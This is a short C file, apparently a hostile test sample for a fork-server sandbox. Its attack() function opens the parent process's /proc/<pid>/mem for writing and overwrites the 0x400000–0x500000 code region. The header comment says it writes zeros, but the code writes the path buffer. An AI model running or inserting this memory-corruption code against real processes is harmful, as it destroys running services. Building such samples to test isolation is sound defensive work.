/* Writes zeros over the stack and code of the fork server. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#include "hostile.h"

static void attack(unsigned char choice) {
    (void)choice;
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", getppid());
    int memory = open(path, O_RDWR);
    for (unsigned long place = 0x400000; memory >= 0 && place < 0x500000; place += 4096) {
        (void)!pwrite(memory, path, sizeof path, (off_t)place);
    }
}
